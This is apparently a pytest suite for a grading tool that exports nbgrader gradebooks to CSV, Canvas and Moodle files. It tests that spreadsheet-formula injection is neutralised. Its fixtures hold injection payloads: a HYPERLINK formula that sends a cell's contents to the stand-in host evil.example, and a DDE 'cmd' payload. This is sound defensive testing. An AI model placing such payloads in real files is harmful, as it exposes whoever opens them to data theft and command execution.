"""`grader export` and nbgrader's export with our plug-ins: what the gradebook holds, as others read it."""

from __future__ import annotations

import csv
import io
import re
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Mapping
from contextlib import closing
from datetime import datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbgrader.api import Gradebook
from nbgrader.apps import ExportApp
from sqlalchemy import create_engine, event

from grader import spreadsheet
from grader.cli import main
from grader.course import Course
from grader.export_rows import read_book
from tests.classroom import NAME, ODD_NAME, copy_of, graded_class
from tests.conftest import copy_course

COURSE_ID = "regularization-course"
DUE = datetime(2026, 1, 30, 12, 0, 0)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
#: Last name, first name, e-mail address.
PEOPLE = {
    "ada": ("Müller, geb. Ng", 'Ada "the\nfirst"', "ada@example.org"),
    "bob": ("王小明", "Ὀδυσσεύς", "=cmd|' /C calc'!A0"),
    "cleo": (FORMULA, "x;=1+1", "+cleo@example.org"),
    "eve": ("\t=1", "＝1", "-eve@example.org"),
    "@absent": ("O'Neil-Smith", "NA", ""),
}
CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Regularization (4711),Warm-up (4712),Final Score\n"
    ",,,,,Manual Posting,,\n"
    "    Points Possible,,,,,100.00,10.00,(read only)\n"
    '"Ng, Ada",101,s1,ADA,"Mon, Tue",,5.00,50\n'
    '"=1+1, Bob",102,=s2,bob,Mon,12.00,,\n'
    '"Absent, Ann",103,s3,@absent,Mon,77.00,,\n'
    '"Student, Test",999,,,Mon,,,\n'
)
MOODLE = (
    "First name;Last name;ID number;Email address;Groups\n"
    "Ada;Ng;00123;ada;A\nBob;+1;;bob;A\nCleo;Ra;-7;cleo;A\nEve;Öz;0;eve;B\nAnn;Absent;5;@absent;B\n"
)


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory, released_course_template: Course) -> Course:
    """A class that was graded, with all that a person can add in the gradebook."""
    done = graded_class(tmp_path_factory, released_course_template)
    course = copy_of(done.course, tmp_path_factory.mktemp("export") / "course")
    with closing(Gradebook(f"sqlite:///{course.gradebook}", COURSE_ID)) as book:
        for student, (last, first, email) in PEOPLE.items():
            book.update_or_create_student(student, last_name=last, first_name=first, email=email)
        book.find_assignment(NAME).duedate = DUE
        ada = book.find_submission(NAME, "ada")
        ada.timestamp, ada.extension = DUE + timedelta(days=3), timedelta(days=1)
        ada.notebooks[0].late_submission_penalty = 4.25
        _give(book, "ada", "interpretation", manual_score=7.1, extra_credit=0.2)
        _give(book, "bob", "interpretation", manual_score=10, extra_credit=5)
        _give(book, "cleo", "test_training", manual_score=0)
        book.find_submission(NAME, "dan").notebooks[0].late_submission_penalty = 50
        comment = book.find_comment("interpretation", NAME, NAME, "ada")
        comment.manual_comment = "Well seen, but\n=read §2"
        book.db.commit()
    return course


def _give(book: Gradebook, student: str, grade_id: str, **values: float) -> None:
    grade = book.find_grade(grade_id, NAME, NAME, student)
    for name, value in values.items():
        setattr(grade, name, value)
    grade.needs_manual_grade = False


def export(course: Course, *arguments: str) -> int:
    """Run the command."""
    return main(["export", "--course-dir", str(course.root), *arguments])


def written(course: Course, target: Path, *arguments: str) -> list[dict[str, str]]:
    """What it writes, as the csv module reads it."""
    export(course, "--output", str(target), *arguments)
    with target.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


@pytest.fixture(scope="module")
def table(graded: Course, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The plain table."""
    target = tmp_path_factory.mktemp("table") / "grades.csv"
    assert export(graded, "--output", str(target)) == 1  # some could not be graded
    return target


@pytest.fixture(scope="module")
def rows(table: Path) -> dict[str, dict[str, str]]:
    """The plain table's rows by student."""
    with table.open(encoding="utf-8", newline="") as file:
        found = [
            {spreadsheet.plain(name): spreadsheet.plain(text) for name, text in row.items()}
            for row in csv.DictReader(file, strict=True)
        ]
    by_student = {row["student_id"]: row for row in found}
    assert len(by_student) == len(found)
    return by_student


@pytest.fixture
def canvas(tmp_path: Path) -> Path:
    """Canvas's gradebook, as it exports it."""
    path = tmp_path / "canvas.csv"
    path.write_text(CANVAS, encoding="utf-8-sig")
    return path


@pytest.fixture
def moodle(tmp_path: Path) -> Path:
    """Moodle's participants, in a form that it exports."""
    path = tmp_path / "moodle.csv"
    path.write_text(MOODLE, encoding="utf-8")
    return path


def nbgrader(course: Course, exporter: str, *arguments: str) -> int:
    """Run nbgrader's own application with one of our plug-ins; its exit code."""
    app = ExportApp()
    options = ["--exporter", f"grader.exporters.{exporter}", *arguments]
    app.initialize(options, root=str(course.root))
    try:
        app.start()
    except SystemExit as end:
        return int(str(end.code))
    return 0


@pytest.mark.slow
def test_numbers_are_those_of_nbgraders_own_objects(
    graded: Course, rows: Mapping[str, Mapping[str, str]]
) -> None:
    """Scores, penalties, hand grades and extra credit come out as nbgrader itself works them out."""
    with closing(Gradebook(f"sqlite:///{graded.gradebook}", COURSE_ID)) as book:
        assert set(rows) == {student.id for student in book.students}
        for submission in book.assignment_submissions(NAME):
            row = rows[submission.student.id]
            if row["status"] == "not_graded":
                assert submission.score == 0
                continue
            assert row["status"] == "graded"
            assert float(row["raw_score"]) == pytest.approx(submission.score)
            penalty = submission.late_submission_penalty
            assert float(row["late_submission_penalty"]) == penalty
            assert float(row["score"]) == pytest.approx(max(0.0, submission.score - penalty))
            assert float(row["max_score"]) == submission.max_score
            assert row["timestamp"] == str(submission.timestamp or "")
            assert row["duedate"] == str(submission.duedate)
            assert row["needs_manual_grade"] == str(bool(submission.needs_manual_grade)).lower()
            for grade in submission.notebooks[0].grades:
                given = (
                    "" if grade.auto_score is None and grade.manual_score is None else grade.score
                )
                assert row[grade.name] == (given if given == "" else spreadsheet.number(given))
                assert float(row[f"{grade.name} (max)"]) == grade.max_score


@pytest.mark.slow
def test_a_few_numbers_worked_out_by_hand(rows: Mapping[str, Mapping[str, str]]) -> None:
    """90 points by the judge; 7.1 and 0.2 by hand; 4.25 for lateness; 15 beyond the maximum."""
    ada, bob, dan = rows["ada"], rows["bob"], rows["dan"]
    assert (ada["raw_score"], ada["score"], ada["interpretation"]) == ("97.3", "93.05", "7.3")
    assert ada["duedate"] == str(DUE + timedelta(days=1))
    assert (bob["score"], bob["max_score"], bob["needs_manual_grade"]) == ("105", "100", "false")
    assert (dan["score"], dan["late_submission_penalty"]) == ("0", "50")
    assert rows["cleo"]["test_training"] == "0"
    assert (rows["eve"]["interpretation"], rows["eve"]["needs_manual_grade"]) == ("", "true")


@pytest.mark.slow
def test_no_score_is_not_taken_for_a_score_of_0(rows: Mapping[str, Mapping[str, str]]) -> None:
    """What nobody handed in, and what could not be read, has empty cells; a judged 0 is a 0."""
    empty = ("raw_score", "late_submission_penalty", "score", "test_training", "interpretation")
    for student, status in (("@absent", "no_submission"), ("cut-off", "not_graded")):
        assert rows[student]["status"] == status
        assert {rows[student][name] for name in empty} == {""}
    assert rows["dan"]["status"] == "graded"
    assert rows["dan"]["test_training"] == "0"


@pytest.mark.slow
def test_names_come_back_as_they_were(rows: Mapping[str, Mapping[str, str]]) -> None:
    """Commas, quotes, line breaks, other scripts and formulas survive being written and read."""
    for student, names in PEOPLE.items():
        row = rows[student]
        assert (row["last_name"], row["first_name"], row["email"]) == names
    assert ODD_NAME in rows


@pytest.mark.slow
def test_pandas_reads_it(table: Path, rows: Mapping[str, Mapping[str, str]]) -> None:
    """Numbers are numbers there, flags are flags, dates are dates, and columns keep their names."""
    frame = pd.read_csv(
        table,
        dtype={"student_id": str},
        parse_dates=["duedate", "timestamp"],
        keep_default_na=False,
        na_values={name: [""] for name in ("raw_score", "score", "interpretation", "timestamp")},
    ).set_index("student_id")
    assert len(frame) == len(rows)
    assert frame.loc["ada", "score"] == 93.05
    assert frame["max_score"].dtype.kind in "if"
    assert frame["score"].dtype.kind == "f"
    assert frame["needs_manual_grade"].dtype.kind == "b"
    assert frame.loc["ada", "timestamp"] == pd.Timestamp(DUE + timedelta(days=3))
    assert frame.loc["'@absent", "first_name"] == "NA"
    assert frame["test_training (max)"].eq(10).all()
    assert list(frame.columns[:11]) == [
        "assignment", "duedate", "timestamp", "last_name", "first_name", "email", "raw_score",
        "late_submission_penalty", "score", "max_score", "needs_manual_grade",
    ]  # fmt: skip


@pytest.mark.slow
def test_no_cell_is_a_formula_whatever_the_separator(table: Path) -> None:
    """A spreadsheet that is set to semicolons or tabs cuts texts in two; no half is a formula either."""
    text = table.read_text(encoding="utf-8")
    assert "＝1" in text
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                assert not re.match(r"\s*[=+\-@＝＋－＠]", cell), (separator, cell)


@pytest.mark.slow
@pytest.mark.parametrize("form", ["csv", "canvas", "moodle"])
def test_both_ways_write_the_same_bytes(
    form: str, graded: Course, tmp_path: Path, canvas: Path, moodle: Path
) -> None:
    """nbgrader takes our plug-ins and their settings, and exits as our command does."""
    ours, theirs = tmp_path / "ours.csv", tmp_path / "theirs.csv"
    name = {"csv": "CsvExporter", "canvas": "CanvasExporter", "moodle": "MoodleExporter"}[form]
    roster = {"canvas": canvas, "moodle": moodle}.get(form)
    mine = ["--roster", str(roster)] if roster else []
    settings = [f"--{name}.roster={roster}"] if roster else []
    if form == "moodle":
        mine, settings = [*mine, "--feedback"], [*settings, "--MoodleExporter.feedback=True"]
    assert export(graded, "--format", form, "--output", str(ours), *mine) == 1
    assert nbgrader(graded, name, f"--ExportPlugin.to={theirs}", *settings) == 1
    assert ours.read_bytes() == theirs.read_bytes()
    assert len(ours.read_bytes().splitlines()) > 2


@pytest.mark.slow
def test_nbgraders_command_tells_what_ours_does(graded: Course) -> None:
    """A wrong call is told in the same words, without a traceback, and nothing is written."""
    program = Path(sys.executable).with_name("nbgrader")
    done = subprocess.run(
        [
            program,
            "export",
            "--exporter=grader.exporters.CanvasExporter",
            f"--ExportPlugin.assignment={NAME}",
        ],
        cwd=graded.root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2
    assert "Cannot export for Canvas: its own numbers of the students are needed." in done.stderr
    assert "Traceback" not in done.stderr
    assert not (graded.root / "exports").exists()


@pytest.mark.slow
def test_canvas_gets_its_own_columns_back(
    graded: Course, tmp_path: Path, canvas: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Identity columns in Canvas's order, the one assignment, points possible; who has no score is left out."""
    target = tmp_path / "out.csv"
    arguments = ["--format", "canvas", "--roster", str(canvas), "--output", str(target)]
    assert export(graded, *arguments) == 1
    with target.open(encoding="utf-8", newline="") as file:
        found = list(csv.reader(file, strict=True))
    assert found == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Regularization (4711)"],
        ["    Points Possible", "", "", "", "", "100"],
        ["Ng, Ada", "101", "s1", "ADA", "Mon, Tue", "93.05"],
        ["'=1+1, Bob", "102", "'=s2", "bob", "Mon", "105"],
    ]
    told = capsys.readouterr().err
    assert re.search(
        r"\d+ students not in the roster's column 'SIS Login ID': a-loop, .*cleo", told
    )
    assert "2 students of the roster left out, without a score" in told


@pytest.mark.slow
@pytest.mark.parametrize("column", ["4711", "regularization (4711)", "REGULARIZATION"])
def test_a_column_of_canvas_has_three_names(
    column: str, graded: Course, tmp_path: Path, canvas: Path
) -> None:
    """Its whole title, its name, its number; students to export can be chosen; then all is well."""
    options = ["--format", "canvas", "--roster", str(canvas), "--column", column]
    found = written(graded, tmp_path / "out.csv", *options, "--student", "bob")
    assert [row["Regularization (4711)"] for row in found] == ["100", "105"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("change", "options", "code", "words"),
    [
        (("100.00", "10.00"), [], 1, "has 10 points in Canvas, and 'regularization' has 100"),
        (("100.00", "(read only)"), [], 2, "Canvas works it out by itself"),
        (("Section", "Group"), [], 2, "it is not Canvas's gradebook"),
        (("Regularization (", "Other ("), [], 2, "no assignment called 'regularization'"),
        (("Warm-up (", "Regularization ("), [], 2, "several assignments called 'regularization'"),
        (
            ("", ""),
            ["--column", "Wram-up"],
            2,
            "There are: 'Regularization (4711)', 'Warm-up (4712)'",
        ),
        (("", ""), ["--key", "SIS Login"], 2, "Did you mean 'SIS Login ID'?"),
        (
            ("bob", "ADA"),
            [],
            2,
            "'ADA' stands twice in the column 'SIS Login ID', in lines 4 and 5",
        ),
        (("", ""), ["--feedback"], 2, "only Moodle imports comments"),
        (("", ""), ["--student", "adda"], 2, "Did you mean 'ada'?"),
    ],
)
def test_what_would_go_wrong_in_canvas_is_said_here(
    change: tuple[str, str],
    options: list[str],
    code: int,
    words: str,
    graded: Course,
    canvas: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Another scale, a column that would become a new assignment, a file that is another one."""
    canvas.write_text(CANVAS.replace(*change), encoding="utf-8")
    options = ["--student", "ada", "bob", *options]
    assert (
        export(graded, "--format", "canvas", "--roster", str(canvas), "--output", "-", *options)
        == code
    )
    assert words in capsys.readouterr().err


@pytest.mark.slow
def test_moodle_gets_identifiers_grades_and_comments(
    graded: Course, tmp_path: Path, moodle: Path
) -> None:
    """The columns that Moodle can map, one grade, and what a person wrote; blank lines would shift grades."""
    options = [
        "--format",
        "moodle",
        "--roster",
        str(moodle),
        "--feedback",
        "--column",
        "Assignment: L2",
    ]
    found = written(graded, tmp_path / "out.csv", *options)
    assert list(found[0]) == [
        "First name", "Last name", "ID number", "Email address", "Assignment: L2",
        "Assignment: L2 (feedback)",
    ]  # fmt: skip
    assert [(row["Email address"], row["Assignment: L2"]) for row in found] == [
        ("ada", "93.05"), ("bob", "105"), ("cleo", "65"), ("eve", "60"),
    ]  # fmt: skip
    assert [row["ID number"] for row in found] == ["00123", "", "'-7", "0"]
    feedback = spreadsheet.plain(found[0]["Assignment: L2 (feedback)"]).splitlines()
    assert "interpretation: 7.3 of 10" in feedback
    assert feedback[-3:] == ["taken off for lateness: 4.25", "Well seen, but", "=read §2"]


@pytest.mark.slow
def test_moodle_never_gets_an_identifier_that_it_could_not_find(
    graded: Course, tmp_path: Path, moodle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Empty, 0 or made safe, it would fail the whole file or move the grade to the line before."""
    moodle.write_text(
        "ID number,Nick\n00123,ada\n,bob\n-7,cleo\n0,eve\n@x,noisy\n", encoding="utf-8"
    )
    options = ["--format", "moodle", "--roster", str(moodle)]
    found = written(graded, tmp_path / "out.csv", *options)
    assert found == [{"ID number": "00123", "Assignment: regularization": "93.05"}]
    told = capsys.readouterr().err
    assert "4 students left out, whose 'ID number' is empty, 0, or begins like" in told
    assert "bob, cleo, eve, noisy" in told


@pytest.mark.slow
def test_moodle_without_a_roster(
    graded: Course, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """nbgrader's ids may be Moodle's; that has to be said, by a name that Moodle knows."""
    options = ["--format", "moodle", "--student", "ada", "bob"]
    assert export(graded, *options) == 2
    assert export(graded, *options, "--key", "Nick") == 2
    capsys.readouterr()
    found = written(graded, tmp_path / "out.csv", *options, "--key", "username")
    assert found == [
        {"Username": "ada", "Assignment: regularization": "93.05"},
        {"Username": "bob", "Assignment: regularization": "105"},
    ]
    assert "1 student above 100 points: Moodle refuses the whole file" in capsys.readouterr().err


@pytest.mark.slow
def test_an_id_of_the_learning_management_system_goes_first(
    graded: Course, tmp_path: Path, canvas: Path
) -> None:
    """What was entered as a student's lms_user_id in nbgrader is what is looked for."""
    course = copy_of(graded, tmp_path / "course")
    with closing(Gradebook(f"sqlite:///{course.gradebook}", COURSE_ID)) as book:
        book.update_or_create_student("cleo", lms_user_id="999")
    options = ["--format", "canvas", "--roster", str(canvas), "--student", "cleo"]
    found = written(course, tmp_path / "out.csv", *options)
    assert [row["Student"] for row in found] == ["    Points Possible", "Student, Test"]


@pytest.mark.slow
def test_an_assignment_of_the_course_is_no_slip(
    graded: Course, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """One that was never graded is something to do, exit code 1; an unknown one is wrong usage, 2."""
    course = Course(tmp_path / "course")
    shutil.copytree(graded.root, course.root)
    (course.root / "source" / "second").mkdir()
    assert export(course, "second") == 1
    assert "nothing has been graded yet. Run: grader grade second" in capsys.readouterr().err
    assert export(course, "secnd") == 2


@pytest.mark.slow
def test_the_roster_of_canvas_gives_names_to_a_table_too(
    graded: Course, tmp_path: Path, canvas: Path, moodle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its lines on columns are no students, neither for the table nor for Moodle."""
    target = tmp_path / "out.csv"
    found = {row["student_id"]: row for row in written(graded, target, "--roster", str(canvas))}
    assert found["ada"]["email"] == PEOPLE["ada"][2]
    capsys.readouterr()
    options = ["--key", "SIS Login ID", "--roster", str(canvas), "--output", str(target)]
    export(graded, "--format", "moodle", *options, "--student", "ada")
    assert "Posting" not in capsys.readouterr().err


@pytest.mark.slow
def test_what_person_gave_to_an_ungradable_hand_in_counts(graded: Course, tmp_path: Path) -> None:
    """0 points given by hand are a score; 0 points that nobody has given are none."""
    course = Course(tmp_path / "course")
    shutil.copytree(graded.root, course.root)
    with closing(sqlite3.connect(course.gradebook)) as database:
        database.execute(
            "UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT submitted_notebook.id FROM "
            "submitted_notebook JOIN submitted_assignment ON submitted_assignment.id = "
            "submitted_notebook.assignment_id WHERE student_id = 'cut-off')"
        )
        database.commit()
    found = {row["student_id"]: row for row in written(course, tmp_path / "out.csv")}
    assert (found["cut-off"]["status"], found["cut-off"]["score"]) == ("graded", "0")


@pytest.mark.slow
def test_a_roster_of_ones_own_gives_names(
    graded: Course, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What it says goes first, what it leaves open comes from the gradebook; who is missing is told."""
    roster = tmp_path / "own.csv"
    roster.write_text("Hub;Surname;E-mail\nada;;ada@new.example\ndan;Dü;d@x\n", encoding="utf-8")
    target = tmp_path / "out.csv"
    found = {row["student_id"]: row for row in written(graded, target, "--roster", str(roster))}
    assert (found["ada"]["last_name"], found["ada"]["email"]) == (
        PEOPLE["ada"][0],
        "ada@new.example",
    )
    assert found["dan"]["last_name"] == "Dü"
    assert found["bob"]["last_name"] == PEOPLE["bob"][0]
    assert "not in the roster's column 'Hub'" in capsys.readouterr().err
    roster.write_text("Hub,name\nada,a\n,b\n,c\n", encoding="utf-8")
    assert export(graded, "--roster", str(roster)) == 2
    assert "there is no 'Hub' in lines 3, 4" in capsys.readouterr().err


@pytest.mark.slow
def test_standard_output_holds_nothing_else(
    graded: Course, table: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    """`--output -` is the file, byte for byte; what there is to say goes to stderr."""
    export(graded, "--output", "-")
    captured = capfdbinary.readouterr()
    assert captured.out == table.read_bytes()
    assert b"waits for a person" in captured.err


@pytest.mark.slow
def test_a_file_in_exports_takes_the_place_of_the_last_one_at_once(
    graded: Course, table: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The default place is made; an export that fails leaves the last one whole."""
    course = copy_of(graded, tmp_path / "course")
    export(course)
    target = course.root / "exports" / f"{NAME}.csv"
    assert capsys.readouterr().out.startswith(f"{target}: ")
    assert target.read_bytes() == table.read_bytes()
    assert export(course, "--student", "nobody") == 2
    assert target.read_bytes() == table.read_bytes()
    assert [path.name for path in target.parent.iterdir()] == [f"{NAME}.csv"]
    assert export(course, "--output", str(course.root)) == 2


@pytest.mark.slow
def test_work_that_nobody_graded_is_told(
    graded: Course, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A submission that came after the last grading is not silently missing."""
    course = copy_of(graded, tmp_path / "course")
    shutil.copytree(course.submitted("ada", NAME), course.submitted("late comer", NAME))
    assert export(course) == 1
    assert "in submitted/ that nobody has graded yet: late comer. Run: grader grade" in (
        capsys.readouterr().err
    )


@pytest.mark.slow
def test_what_the_configuration_says_counts(graded: Course, tmp_path: Path, canvas: Path) -> None:
    """A setting in nbgrader_config.py is one for both commands; an option goes before it."""
    course = copy_of(graded, tmp_path / "course")
    with course.config_file.open("a", encoding="utf-8") as file:
        file.write(
            f"\nc.CanvasExporter.roster = {str(canvas)!r}\nc.CanvasExporter.column = 'none'\n"
        )
    options = ["--format", "canvas", "--student", "ada", "--output", str(tmp_path / "out.csv")]
    assert export(course, *options) == 2
    assert export(course, *options, "--column", "4711") == 0


@pytest.mark.slow
@pytest.mark.parametrize("form", ["csv", "canvas", "moodle"])
def test_an_empty_gradebook_is_told_what_to_run(
    form: str,
    released_course: Course,
    canvas: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Released, but nothing graded: an error, and no file that looks like a class of nobody."""
    target = tmp_path / "out.csv"
    options = ["--format", form, "--output", str(target), "--roster", str(canvas)]
    assert export(released_course, *options) == 1
    assert "the gradebook knows no student yet. Run: grader grade" in capsys.readouterr().err
    assert not target.exists()


def test_no_gradebook_is_not_made_by_looking(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before the first release there is none, and there is none after."""
    course = copy_course(tmp_path / "course")
    assert export(course) == 1
    assert "there is no gradebook" in capsys.readouterr().err
    assert not course.gradebook.exists()
    named = f"sqlite:///{tmp_path}/slip.db"
    for command in ("export", "report"):
        options = ["--course-dir", str(course.root), "--db", named]
        assert main([command, *options]) == 2
        error = capsys.readouterr().err
        assert "Cannot read gradebook " in error
        assert "slip.db: there is none. Name with --db the one that was graded into" in error
    assert not (tmp_path / "slip.db").exists()
    assert export(course, "--column", "x") == 2


def _filled(course: Course, students: int, works: int = 1) -> str:
    """Enter so many students and assignments, with cells of the same names, by the plainest means."""
    url = f"sqlite:///{course.gradebook}"
    with sqlite3.connect(course.gradebook) as db:

        def put(table: str, **row: object) -> None:
            places = ", ".join("?" * len(row))
            db.execute(f"INSERT INTO {table} ({', '.join(row)}) VALUES ({places})", [*row.values()])  # noqa: S608

        for student in range(students):
            put("student", id=f"s{student}")
        for work in range(works):
            put("assignment", id=f"w{work}", name=f"work{work}", course_id=COURSE_ID)
            put("notebook", id=f"n{work}", name="n", assignment_id=f"w{work}")
            for name in ("score", "same"):
                cell = f"{name}{work}"
                put("base_cell", id=cell, name=name, notebook_id=f"n{work}", type="GradeCell")
                put("grade_cells", id=cell, max_score=work + 1, cell_type="code")
            for student in range(students):
                one = f"{work}-{student}"
                put(
                    "submitted_assignment",
                    id=one,
                    assignment_id=f"w{work}",
                    student_id=f"s{student}",
                )
                put("submitted_notebook", id=one, notebook_id=f"n{work}", assignment_id=one)
                put("grade", id=one, cell_id=f"same{work}", notebook_id=one, auto_score=work + 0.5,
                    needs_manual_grade=0)  # fmt: skip
    db.close()
    return url


@pytest.mark.slow
def test_no_more_questions_for_more_students(tmp_path: Path, released_course: Course) -> None:
    """The gradebook is asked as often for seven students as for one."""
    counts = []
    for students in (1, 7):
        course = copy_of(released_course, tmp_path / str(students))
        asked: list[str] = []
        engine = create_engine(_filled(course, students))
        event.listen(
            engine, "before_cursor_execute", lambda *args, asked=asked: asked.append(args[2])
        )
        with engine.connect() as connection:
            assert len(read_book(connection, COURSE_ID, ["work0"]).entries) == students
        engine.dispose()
        counts.append(len(asked))
    assert counts[0] == counts[1] <= 8


@pytest.mark.slow
def test_several_assignments_in_one_table(
    tmp_path: Path, released_course: Course, capsys: pytest.CaptureFixture[str]
) -> None:
    """One row for each and each student; a cell named like a column of ours is told from it."""
    course = released_course
    _filled(course, 2, works=2)
    found = written(course, tmp_path / "out.csv")
    assert [row["score"] for row in found[:2]] == ["", ""]
    columns = ("assignment", "student_id", "score", "same (max)", "n.score", "n.score (max)")
    assert [tuple(row[name] for name in columns) for row in found[2:]] == [
        ("work0", "s0", "0.5", "1", "", "1"),
        ("work0", "s1", "0.5", "1", "", "1"),
        ("work1", "s0", "1.5", "2", "", "2"),
        ("work1", "s1", "1.5", "2", "", "2"),
    ]
    assert export(course, "work1") == 0
    assert (course.root / "exports" / "work1.csv").is_file()
    assert export(course, "--format", "moodle", "--key", "Username") == 2
    assert "Name one of regularization, work0, work1" in capsys.readouterr().err
    assert export(course, "wrok1") == 2
    assert "Did you mean 'work1'?" in capsys.readouterr().err


@given(st.text() | st.text(alphabet="=+-@'\"\t\r\n ,;|a＝\u200b"))
def test_a_text_made_safe_is_safe_and_comes_back(text: str) -> None:
    """Any text, by any rule of spreadsheets that we know of: not at its start, not at any cut in it."""
    guarded = spreadsheet.safe(text)
    assert spreadsheet.plain(guarded) == text
    assert not re.match(r"[\s\u200b\"]*[=+\-@＝＋－＠]|[\t\r\n]", guarded)
    for piece in re.split(r"[,;|\t\r\n]", guarded):
        assert not re.match(r"[ \u200b\"]*[=+\-@＝＋－＠]", piece), guarded
    ((cell,),) = csv.reader(io.StringIO("".join(spreadsheet.lines([[f"a{text}"]])), newline=""))
    assert spreadsheet.plain(cell) == f"a{text}"


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_is_written_as_a_short_decimal(value: float) -> None:
    """It reads back as the very same float, and has no exponent that a system might not read."""
    text = spreadsheet.number(value)
    assert float(text) == value
    assert re.fullmatch(r"-?\d+(\.\d*[1-9])?", text)
